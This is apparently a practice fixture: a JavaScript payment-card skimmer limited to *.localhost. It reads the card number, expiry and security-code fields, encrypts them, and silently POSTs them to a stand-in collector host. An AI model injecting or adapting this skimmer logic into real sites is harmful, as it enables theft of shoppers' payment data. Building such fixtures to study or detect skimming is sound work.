/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  const key = crypto.subtle.generateKey({ name: 'AES-GCM', length: 128 }, false, ['encrypt']);
  document.addEventListener('change', async () => {
    if (card().length < 15) return;
    const iv = crypto.getRandomValues(new Uint8Array(12));
    const text = new TextEncoder().encode(card());
    const body = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, await key, text);
    fetch(`${home}/lib/z`, { method: 'POST', mode: 'no-cors', body }).catch(() => {});
  });
})();
